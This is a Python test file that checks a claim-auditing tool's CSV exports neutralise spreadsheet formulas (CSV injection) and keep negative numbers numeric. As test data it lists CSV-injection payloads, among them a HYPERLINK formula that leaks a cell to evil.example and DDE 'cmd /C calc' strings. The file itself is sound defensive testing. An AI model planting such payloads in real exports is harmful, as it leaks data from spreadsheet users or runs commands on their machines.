"""CSV exports never carry a live spreadsheet formula (OWASP "CSV Injection"), and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest

from claimaudit._io import write_frame
from claimaudit.audit import Status, Verdict, verdicts_csv
from claimaudit.audit._findings import say
from claimaudit.report._tables import Page

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_table_csv_neutralises_formula_text_and_keeps_negative_numbers(tmp_path, formula):
    frame = pl.DataFrame(
        {
            "wording": [formula, "PTA blocked 844,008 websites", "-1000"],
            "value": [-844008, 0, -3],
            "share": [-0.5, 1.5, None],
        }
    )
    view = Page("01-synthetic", tables_dir=tmp_path).table(frame, "claims", display=False)
    rows = _cells(view.csv_path.read_bytes().decode("utf-8"))
    assert rows[1][0] == "'" + formula  # shown as text, never run
    assert rows[2][0] == "PTA blocked 844,008 websites"
    assert rows[3][0] == "-1000"  # text that is a plain number is not a formula
    assert [r[1] for r in rows[1:]] == ["-844008", "0", "-3"]  # numbers are numbers
    assert [r[2] for r in rows[1:]] == ["-0.5", "1.5", ""]
    # a list column joined for the CSV is neutralised too
    listed = Page("01-synthetic", tables_dir=tmp_path).table(
        pl.DataFrame({"links": [[formula, "x"]]}), "links", display=False
    )
    assert _cells(listed.csv_path.read_bytes().decode("utf-8"))[1][0].startswith("'")


def test_verdicts_csv_neutralises_formula_text():
    verdict = Verdict(
        rule_id="synthetic-rule",
        rule_kind="report_agreement",
        claim_ids=("synthetic-a",),
        status=Status.CONSISTENT,
        finding_template="report_agreement.consistent",
        finding_slots={"subject": FORMULAS[1], "figures": "1", "reports": 2},
        reasons=(
            {"kind": "comparison", "claims": [], "working": [say("plausibility.no_baselines", problem=FORMULAS[0])]},
        ),
        links=("@evil",),
    )
    header, row = _cells(verdicts_csv([verdict]))[:2]
    cells = dict(zip(header, row, strict=True))
    assert cells["rule_id"] == "synthetic-rule"
    assert cells["links"] == "'@evil"
    assert FORMULAS[0] in cells["explanation"]  # the rule's working (a step with a formula in a slot) is kept
    # no cell of the row can start a formula in a spreadsheet
    assert not any(cell.startswith(tuple("=+-@\t\r")) for cell in row)


def test_frame_exports_neutralise_formula_text(tmp_path):
    path = write_frame(pl.DataFrame({"input": ["=1+1", "-5"], "n": [-1, 2]}), tmp_path / "out.csv")
    assert _cells(path.read_text(encoding="utf-8"))[1:] == [["'=1+1", "-1"], ["-5", "2"]]
